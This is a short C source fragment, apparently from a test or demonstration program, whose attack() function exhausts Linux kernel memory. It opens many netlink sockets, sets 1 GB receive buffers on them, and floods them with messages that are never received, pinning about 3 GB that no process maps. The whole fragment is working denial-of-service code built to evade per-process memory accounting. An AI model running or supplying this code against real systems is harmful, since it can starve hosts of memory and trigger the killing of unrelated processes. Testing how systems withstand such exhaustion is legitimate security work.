/* Takes three gigabytes that no process maps: messages that were sent to sockets of netlink(7), and
 * never received. */
#include <linux/netlink.h>
static void attack(void)
{
    static char block[7000];
    for (int i = 0; i < 60; i++) {
        for (size_t sent = 0; sent < 50 << 20;) {
            struct sockaddr_nl address = {.nl_family = AF_NETLINK};
            socklen_t size = sizeof address;
            int from = socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK);
            int to = socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK);
            setsockopt(to, SOL_SOCKET, SO_RCVBUF, &(int){1 << 30}, sizeof(int));
            bind(to, (struct sockaddr *)&address, size);
            if (getsockname(to, (struct sockaddr *)&address, &size) == -1)
                return;
            while (sendto(from, block, sizeof block, MSG_DONTWAIT, (struct sockaddr *)&address,
                          size) > 0)
                sent += sizeof block;
        }
        usleep(20000);
    }
    succeeded("3000 MB in netlink");
}
